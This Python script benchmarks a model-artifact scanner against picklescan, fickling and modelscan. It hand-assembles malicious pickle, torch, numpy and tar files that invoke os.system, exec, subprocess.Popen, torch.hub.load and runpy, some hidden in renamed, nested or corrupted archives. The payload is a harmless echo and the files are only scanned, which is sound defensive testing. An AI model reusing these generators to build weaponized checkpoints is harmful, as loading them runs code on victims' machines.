"""Artifact scanner benchmark: torchreview against picklescan, fickling and modelscan.

Builds a corpus of benign and malicious checkpoint/pickle files in a temporary
directory (every file is generated here, byte by byte or with torch.save /
numpy.save; nothing is ever unpickled), scans each file with

* torchreview (in process, ``torchreview.artifacts.scan_file``), and
* the ``picklescan``, ``fickling`` and ``modelscan`` command-line tools, when
  they are on PATH (or in ``--peers-bin``),

and prints, per tool: malicious files detected / missed, benign files falsely
flagged, and files the tool could not scan.  Then it writes a sparse 2 GB torch
zip checkpoint and times a scan of it.

Verdicts of the peer CLIs are read from their documented exit codes
(1 = flagged, 0 = clean, anything else or a timeout = could not scan).
torchreview flags a file when it reports a critical TR108 finding.

Run: ``python bench/bench_artifacts.py [--peers-bin DIR] [--big-gb 2] [--no-big]``
"""

from __future__ import annotations

import argparse
import io
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from dataclasses import dataclass

COMMAND = "echo benchmark-payload"


# -- crafting pickles by opcode ------------------------------------------------------
def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _u(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _call(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    body = _g(module, name) + b"(" + b"".join(_u(a) for a in args) + b"tR"
    return b"\x80" + bytes([proto]) + body + b"."


def _stack_global_exec() -> bytes:
    return (
        b"\x80\x04" + _u("builtins") + b"\x940" + _u("decoy") + b"\x940" + _u("exec") + b"\x940"
        + b"h\x00j\x02\x00\x00\x00\x93" + _u("print(1)") + b"\x85R."
    )


def _getattr_chain() -> bytes:
    imp = _g("__builtin__", "__import__") + b"(" + _u("os") + b"tR"
    get = _g("__builtin__", "getattr") + b"(" + imp + _u("system") + b"tR"
    return b"\x80\x02" + get + b"(" + _u(COMMAND) + b"tR."


def _p0_inst() -> bytes:
    return b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n."


def _p0_obj() -> bytes:
    return b"(" + _g("subprocess", "check_output") + b"(S'id'\nlo."


def _build_patch() -> bytes:
    return b"\x80\x02" + _g("torch._utils", "_rebuild_tensor_v2") + b"N}\x86b."


def _benign_pickle(proto: int) -> bytes:
    return pickle.dumps({"w": [1.0, 2.0], "epoch": 3, "tags": {"a"}}, protocol=proto)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _torch_zip(data_pkl: bytes, folder: str = "archive", extra: dict | None = None) -> bytes:
    members = {f"{folder}/data.pkl": data_pkl, f"{folder}/byteorder": b"little",
               f"{folder}/version": b"3\n", f"{folder}/data/0": bytes(64)}
    members.update(extra or {})
    return _zip(members)


def _bad_crc(data: bytes) -> bytes:
    out = bytearray(data)
    for sig, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        pos = out.find(sig)
        while pos >= 0:
            out[pos + at] ^= 0xFF
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _legacy(second: bytes | None = None) -> bytes:
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
             second or pickle.dumps(1001, protocol=2),
             pickle.dumps({"protocol_version": 1001}, protocol=2),
             pickle.dumps({"w": 1}, protocol=2), pickle.dumps([], protocol=2)]
    return b"".join(parts)


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _legacy_tar(main: bytes) -> bytes:
    record = b"\x80\x02" + _u("0") + _u("cpu") + _g("torch", "FloatStorage") + b"\x87."
    storages = pickle.dumps(1, protocol=2) + record + struct.pack("<q", 1) + bytes(4)
    storages += pickle.dumps([], protocol=2)
    return _tar({"sys_info": pickle.dumps({}, protocol=2), "pickle": main,
                 "storages": storages, "tensors": pickle.dumps(0, protocol=2)})


def _broken_directory(data: bytes) -> bytes:
    out = bytearray(data)
    eocd = out.rfind(b"PK\x05\x06")
    out[eocd + 16 : eocd + 20] = struct.pack("<I", 0x7FFFFFF0)
    return bytes(out)


@dataclass
class Sample:
    name: str
    malicious: bool
    path: str = ""


def malicious_samples() -> dict[str, bytes]:
    system = _call("os", "system", COMMAND)
    return {
        "reduce_os_system.pkl": system,
        "stack_global_memo_exec.pkl": _stack_global_exec(),
        "protocol0_inst.pkl": _p0_inst(),
        "protocol0_obj.pkl": _p0_obj(),
        "legacy_second_pickle_popen.pt": _legacy(second=_call("subprocess", "Popen", "id")),
        "zip_member_not_data_pkl.pt": _torch_zip(_benign_pickle(2),
                                                 extra={"archive/extra.pkl": system}),
        "zip_wrong_crc.pt": _bad_crc(_torch_zip(system)),
        "renamed_pickle.txt": system,
        "renamed_torch_zip.dat": _torch_zip(system, folder="weights"),
        "object_array.npy": _npy_object(system),
        "object_array.npz": _zip({"a.npy": _npy_object(system)}, zipfile.ZIP_DEFLATED),
        "nested_zip.mar": _zip({"MAR-INF/MANIFEST.json": b"{}", "model.pt": _torch_zip(system)}),
        "zip_in_tar.nemo": _tar({"model_config.yaml": b"a: 1\n",
                                 "model_weights.ckpt": _torch_zip(system)}),
        "torch_hub_load.pt": _torch_zip(_call("torch.hub", "load", "evil/repo", "m")),
        "importlib_import_module.pkl": _call("importlib", "import_module", "antigravity"),
        "getattr_chain.pkl": _getattr_chain(),
        "legacy_tar.tar": _legacy_tar(system),
        "second_pickle_in_file.pkl": _benign_pickle(2) + system,
        "build_monkeypatch.pkl": _build_patch(),
        "runpy_run_path.pt": _torch_zip(_call("runpy", "run_path", "/tmp/x.py")),
        "broken_central_directory.pt": _broken_directory(_torch_zip(system)),
    }


def benign_samples() -> dict[str, bytes]:
    files = {f"plain_protocol{p}.pkl": _benign_pickle(p) for p in range(6)}
    files["crafted_torch_zip.pt"] = _torch_zip(
        b"\x80\x02" + _g("collections", "OrderedDict") + b")R."
    )
    try:
        import numpy as np

        for name, array in {"float.npy": np.zeros((3, 3)), "int.npy": np.arange(5)}.items():
            buf = io.BytesIO()
            np.save(buf, array)
            files[f"numpy_{name}"] = buf.getvalue()
        buf = io.BytesIO()
        np.savez(buf, a=np.arange(3), b=np.ones(2))
        files["numpy_arrays.npz"] = buf.getvalue()
    except ImportError:
        pass
    try:
        import torch
    except ImportError:
        return files
    model = torch.nn.Sequential(torch.nn.Linear(8, 8), torch.nn.BatchNorm1d(8))
    opt = torch.optim.Adam(model.parameters())
    model(torch.randn(4, 8)).sum().backward()
    opt.step()
    cases = {
        "torch_state_dict.pt": (model.state_dict(), True),
        "torch_state_dict_legacy.pt": (model.state_dict(), False),
        "torch_optimizer.pt": ({"model": model.state_dict(), "opt": opt.state_dict()}, True),
        "torch_dtypes.pt": ({str(d): torch.zeros(2, dtype=d) for d in (
            torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.int64, torch.bool,
            torch.complex64, torch.uint8)}, True),
        "pytorch_model.bin": (model.state_dict(), True),
    }
    for name, (obj, zip_format) in cases.items():
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=zip_format)
        files[name] = buf.getvalue()
    return files


def build_corpus(root: str) -> list[Sample]:
    samples = []
    for malicious, files in ((True, malicious_samples()), (False, benign_samples())):
        for name, data in files.items():
            folder = os.path.join(root, "bad" if malicious else "good", name.replace(".", "_"))
            os.makedirs(folder)
            path = os.path.join(folder, name)
            with open(path, "wb") as handle:
                handle.write(data)
            samples.append(Sample(name, malicious, path))
    return samples


# -- tools ----------------------------------------------------------------------------
def torchreview_verdict(path: str) -> str:
    from torchreview.artifacts import scan_file
    from torchreview.findings import Severity

    findings, errors = scan_file(path)
    if any(f.severity is Severity.CRITICAL for f in findings):
        return "flagged"
    if errors:
        return "error"
    return "flagged" if findings else "clean"


PEERS = {
    "picklescan": lambda exe, path: [exe, "-p", path],
    "fickling": lambda exe, path: [exe, "--check-safety", path],
    "modelscan": lambda exe, path: [exe, "-p", path],
}


def peer_verdict(command: list[str], timeout: float) -> str:
    # Run in the file's folder: fickling writes safety_results.json to the cwd.
    folder = os.path.dirname(command[-1])
    try:
        proc = subprocess.run(command, capture_output=True, timeout=timeout, check=False,
                              cwd=folder)
    except subprocess.TimeoutExpired:
        return "error"
    return {0: "clean", 1: "flagged"}.get(proc.returncode, "error")


def find_peers(extra_dirs: list[str]) -> dict[str, str]:
    found = {}
    path = os.pathsep.join(extra_dirs + [os.environ.get("PATH", "")])
    for tool in PEERS:
        exe = shutil.which(tool, path=path)
        if exe:
            found[tool] = exe
    return found


def score(verdicts: dict[str, str], samples: list[Sample]) -> dict[str, int]:
    row = {"detected": 0, "missed": 0, "false alarms": 0, "errors": 0}
    for sample in samples:
        verdict = verdicts[sample.name]
        if verdict == "error":
            row["errors"] += 1
            if sample.malicious:
                row["missed"] += 1
        elif sample.malicious:
            row["detected" if verdict == "flagged" else "missed"] += 1
        elif verdict == "flagged":
            row["false alarms"] += 1
    return row


# -- the 2 GB checkpoint -------------------------------------------------------------
def write_big_checkpoint(path: str, size: int) -> None:
    """A torch-style zip: a small data.pkl and one stored blob of ``size`` bytes (sparse).

    Plain (non-zip64) records, so ``size`` must stay under 4 GiB.
    """
    numel = size // 4
    int_op = pickle.dumps(numel, protocol=2)[2:-1]  # the opcode that pushes numel
    data_pkl = (
        b"\x80\x02}(" + _u("weight") + _g("torch._utils", "_rebuild_tensor_v2")
        + b"((" + _u("storage") + _g("torch", "FloatStorage") + _u("0") + _u("cpu") + int_op
        + b"tQK\x00" + int_op + b"\x85K\x01\x85\x89" + _g("collections", "OrderedDict")
        + b")RtRu."
    )
    entries = []
    with open(path, "wb") as out:
        for name, payload_size, payload in (("big/data.pkl", len(data_pkl), data_pkl),
                                            ("big/data/0", size, None)):
            offset = out.tell()
            raw = name.encode()
            out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0,
                                  payload_size, payload_size, len(raw), 0) + raw)
            if payload is None:
                out.seek(payload_size, os.SEEK_CUR)  # a hole: no disk, no time
            else:
                out.write(payload)
            entries.append((raw, payload_size, offset))
        cd_start = out.tell()
        for raw, payload_size, offset in entries:
            out.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0,
                                  payload_size, payload_size, len(raw), 0, 0, 0, 0, 0, offset)
                      + raw)
        cd_size = out.tell() - cd_start
        out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                              cd_size, cd_start, 0))


def time_big(size_gb: float, peers: dict[str, str], timeout: float) -> list[tuple[str, str]]:
    from torchreview.artifacts import scan_file

    rows = []
    with tempfile.TemporaryDirectory(prefix="tr-big-") as tmp:
        path = os.path.join(tmp, "big_checkpoint.pt")
        size = int(size_gb * 1024**3)
        write_big_checkpoint(path, size)
        started = time.perf_counter()
        findings, errors = scan_file(path)
        took = time.perf_counter() - started
        verdict = "clean" if not findings and not errors else f"{len(findings)} findings"
        rows.append(("torchreview", f"{took * 1000:.1f} ms ({verdict})"))
        for tool, exe in peers.items():
            started = time.perf_counter()
            result = peer_verdict(PEERS[tool](exe, path), timeout)
            rows.append((tool, f"{time.perf_counter() - started:.2f} s ({result})"))
    return rows


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--peers-bin", action="append", default=[],
                        help="extra directory holding picklescan/fickling/modelscan")
    parser.add_argument("--big-gb", type=float, default=2.0, help="size of the big checkpoint")
    parser.add_argument("--no-big", action="store_true", help="skip the big checkpoint")
    parser.add_argument("--timeout", type=float, default=120.0, help="per peer invocation")
    parser.add_argument("--verbose", action="store_true", help="print every verdict")
    args = parser.parse_args(argv)

    peers = find_peers(args.peers_bin)
    with tempfile.TemporaryDirectory(prefix="tr-bench-") as root:
        samples = build_corpus(root)
        bad = sum(s.malicious for s in samples)
        print(f"corpus: {bad} malicious, {len(samples) - bad} benign files")
        results: dict[str, dict[str, str]] = {"torchreview": {}}
        seconds: dict[str, float] = {}
        started = time.perf_counter()
        for sample in samples:
            results["torchreview"][sample.name] = torchreview_verdict(sample.path)
        seconds["torchreview"] = time.perf_counter() - started
        for tool, exe in peers.items():
            started = time.perf_counter()
            results[tool] = {
                s.name: peer_verdict(PEERS[tool](exe, s.path), args.timeout) for s in samples
            }
            seconds[tool] = time.perf_counter() - started
    missing = [t for t in PEERS if t not in peers]
    header = f"{'tool':<12} {'detected':>9} {'missed':>7} {'false alarms':>13} {'errors':>7} {'time':>8}"
    print(header)
    print("-" * len(header))
    for tool, verdicts in results.items():
        row = score(verdicts, samples)
        print(f"{tool:<12} {row['detected']:>6}/{bad:<2} {row['missed']:>7} "
              f"{row['false alarms']:>13} {row['errors']:>7} {seconds[tool]:>7.2f}s")
    if missing:
        print(f"not installed (skipped): {', '.join(missing)}")
    print("\nmisses, false alarms and errors (all verdicts with --verbose):")
    for tool, verdicts in results.items():
        for sample in samples:
            verdict = verdicts[sample.name]
            expected = "flagged" if sample.malicious else "clean"
            if verdict != expected or args.verbose:
                kind = "malicious" if sample.malicious else "benign"
                print(f"  {tool:<12} {kind:<9} {sample.name:<34} -> {verdict}")
    if not args.no_big:
        print(f"\nscan of a {args.big_gb:g} GB torch zip checkpoint (sparse file, deleted after):")
        for tool, text in time_big(args.big_gb, peers, args.timeout):
            print(f"  {tool:<12} {text}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
